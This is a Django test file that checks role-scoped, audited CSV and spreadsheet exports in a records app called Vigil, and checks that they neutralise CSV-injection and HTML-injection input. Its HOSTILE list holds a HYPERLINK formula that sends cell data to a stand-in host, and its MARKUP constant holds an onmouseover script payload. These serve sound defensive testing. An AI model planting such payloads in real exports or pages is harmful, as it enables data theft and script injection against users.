"""CSV downloads: scoped like the page they come from, and audited."""

import datetime as dt

import pytest
from django.test import Client
from django.urls import reverse

from vigil.accounts.choices import Role
from vigil.audit.models import AuditEvent
from vigil.core.testing import make_team, make_user, verified_client
from vigil.people import services as people

pytestmark = pytest.mark.django_db


def _body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


@pytest.fixture
def data(team, other_team):
    supervisor = make_user(Role.SUPERVISOR, team)
    mine = people.person_create(
        actor=supervisor,
        team=team,
        given_name="Siân",
        family_name="Rowlands",
        date_of_birth=dt.date(1970, 1, 1),
        confirm_not_duplicate=True,
    )
    hidden = people.person_create(
        actor=supervisor,
        team=team,
        given_name="Eira",
        family_name="Hidden",
        date_of_birth=dt.date(1971, 1, 1),
        confirm_not_duplicate=True,
    )
    people.person_restrict(actor=supervisor, person=hidden, users=[], reason="Relative")
    other_sup = make_user(Role.SUPERVISOR, other_team)
    people.person_create(
        actor=other_sup,
        team=other_team,
        given_name="Out",
        family_name="Ofscope",
        date_of_birth=dt.date(1972, 1, 1),
        confirm_not_duplicate=True,
    )
    return {"supervisor": supervisor, "mine": mine, "officer": make_user(Role.OFFICER, team)}


@pytest.mark.parametrize(("role", "status"), [(None, 302), ("auditor", 403), ("assurance", 403)])
def test_people_export_refused(role, status, data):
    client = Client() if role is None else verified_client(make_user(role))
    assert client.get("/people/export.csv").status_code == status


def test_people_export_is_scoped_and_audited(data):
    body = _body(verified_client(data["officer"]).get("/people/export.csv", {"q": ""}))
    assert "Rowlands,Siân" in body
    assert "Hidden" not in body and "Ofscope" not in body
    event = AuditEvent.objects.get(action="people.export")
    assert event.actor_id == data["officer"].pk


def test_team_work_export_masks_restricted_people_and_is_audited(data):
    officer = data["officer"]
    body = _body(verified_client(data["supervisor"]).get("/work/team/export.csv"))
    assert body.splitlines()[0].startswith("Work,Person,Team")
    assert "Review a restricted record,Eira Hidden" in body  # the supervisor is named on it
    other_supervisor = make_user(Role.SUPERVISOR, make_team())
    assert verified_client(other_supervisor).get("/work/team/export.csv").status_code == 200
    assert "Eira" not in _body(verified_client(other_supervisor).get("/work/team/export.csv"))
    assert verified_client(officer).get("/work/team/export.csv").status_code == 403
    assert AuditEvent.objects.filter(action="duties.export").count() == 3


def test_exports_in_welsh_have_welsh_headings(data):
    client = verified_client(data["officer"])
    client.cookies["vigil_language"] = "cy"
    assert _body(client.get("/people/export.csv")).splitlines()[0].startswith("Cyfenw")


# --- Values a spreadsheet would run as formulas (OWASP "CSV injection") --------------

HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"Open")', "@SUM(1)", "+1", "-2+3"]


def _csv(response) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(_body(response))))


def _is_safe_csv(value: str) -> bool:
    return not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_helpers_neutralise_every_formula_start():
    from openpyxl import Workbook

    from vigil.core.exports import csv_row, xlsx_row

    values = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "", None, 7, -3]
    assert csv_row(values) == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
        "plain",
        "",
        "",
        7,
        -3,
    ]
    sheet = Workbook().active
    cells = xlsx_row(sheet, ["=1+1", "a\x00b\x07c", 5])
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert [c.value for c in cells] == ["=1+1", "abc", 5]


@pytest.fixture
def hostile(team):
    supervisor = make_user(Role.SUPERVISOR, team)
    person = people.person_create(
        actor=supervisor,
        team=team,
        given_name=HOSTILE[3],
        family_name=HOSTILE[0],
        date_of_birth=dt.date(1970, 1, 1),
        confirm_not_duplicate=True,
    )
    people.alias_add(actor=supervisor, person=person, given_name=HOSTILE[1], family_name="Jones")
    people.person_restrict(actor=supervisor, person=person, users=[], reason=HOSTILE[2])
    return {"supervisor": supervisor, "person": person}


def test_the_people_csv_writes_formulas_as_quoted_text(hostile):
    rows = _csv(verified_client(hostile["supervisor"]).get("/people/export.csv"))
    row = next(r for r in rows[1:] if "HYPERLINK" in r[0])
    assert row[0] == "'" + HOSTILE[0] and row[1] == "'" + HOSTILE[3]
    assert all(_is_safe_csv(cell) for r in rows for cell in r)


def test_the_audit_csv_writes_formulas_as_quoted_text(hostile):
    auditor = make_user(Role.AUDITOR)
    rows = _csv(
        verified_client(auditor).get(
            reverse("audit:export"), {"person": str(hostile["person"].uuid)}
        )
    )
    cells = [cell for r in rows for cell in r]
    assert "'" + HOSTILE[2] in cells  # the reason for the restriction
    assert "'" + HOSTILE[3] + " " + HOSTILE[0] in cells  # the person, as the record
    assert all(_is_safe_csv(cell) for cell in cells)


def _xlsx_cells(content: bytes):
    import io

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_assurance_workbook_holds_formulas_as_text_cells(force):
    from vigil.accounts.choices import TeamKind
    from vigil.assurance import reporting
    from vigil.assurance import services as assurance
    from vigil.assurance.models import Point

    office = make_user(Role.ASSURANCE, make_team(force, name="PCC office", kind=TeamKind.OTHER))
    point = Point.objects.get(letter="B")
    assurance.point_update(
        actor=office, point=point, status=point.status, owner_en=HOSTILE[0], owner_cy=HOSTILE[0]
    )
    assurance.narrative_add(actor=office, point=point, text=HOSTILE[2])
    cells = _xlsx_cells(reporting.render_xlsx(reporting.build(language="en")))
    values = {c.value: c for c in cells if isinstance(c.value, str)}
    assert values[HOSTILE[0]].data_type == "s" and values[HOSTILE[2]].data_type == "s"
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_the_register_exports_hold_formulas_as_text(force):
    from vigil.register.tests.helpers import Mosovo, extract_file, import_and_run, row_for

    east = Mosovo(force)
    nominal = east.nominal(given_name=HOSTILE[0], family_name="Morgan")
    row = row_for(nominal)
    row["postcode"] = "SA99 9ZZ"
    import_and_run(east.sergeant, extract_file([row]), "one.csv")
    client = verified_client(east.sergeant)
    rows = _csv(client.get(reverse("register:discrepancies-csv")))
    assert any(c.startswith("'=HYPERLINK") for r in rows for c in r)
    assert all(_is_safe_csv(c) for r in rows for c in r)
    response = client.get(reverse("register:report-xlsx"))
    cells = _xlsx_cells(response.content)
    named = [c for c in cells if isinstance(c.value, str) and c.value.startswith(HOSTILE[0])]
    assert named and all(c.data_type == "s" for c in named)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


# --- Documents and reports that embed user text ---------------------------------------

MARKUP = '<b onmouseover="alert(1)">Bold</b><img src="http://example.invalid/x.png">'


def test_no_template_or_module_turns_escaping_off():
    """Django escapes every value in a template; nothing in Vigil turns that off, except
    the QR code of the second-factor set-up (an SVG Vigil makes itself)."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "vigil"
    templates = [p for p in root.rglob("*.html") if ".venv" not in p.parts]
    assert templates
    offending = [
        str(p.relative_to(root))
        for p in templates
        if any(s in p.read_text() for s in ("|safe", "autoescape off", "safeseq"))
    ]
    assert offending == []
    allowed = {"accounts/views.py"}
    marks = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if "tests" not in p.parts and "mark_safe(" in p.read_text()
    ]
    assert set(marks) <= allowed, marks


def test_the_assurance_report_escapes_user_text_in_html_and_pdf(force):
    import io

    from pypdf import PdfReader

    from vigil.accounts.choices import TeamKind
    from vigil.assurance import reporting
    from vigil.assurance import services as assurance
    from vigil.assurance.models import Point

    office = make_user(Role.ASSURANCE, make_team(force, name="PCC office", kind=TeamKind.OTHER))
    point = Point.objects.get(letter="B")
    assurance.narrative_add(actor=office, point=point, text=MARKUP)
    report = reporting.build(language="en")
    html = reporting.render_html(report)
    assert MARKUP not in html and "&lt;b onmouseover=" in html and "<img" not in html
    text = "".join(
        p.extract_text() for p in PdfReader(io.BytesIO(reporting.render_pdf(report))).pages
    )
    assert "<b onmouseover=" in " ".join(text.split())  # shown as text, not run as markup
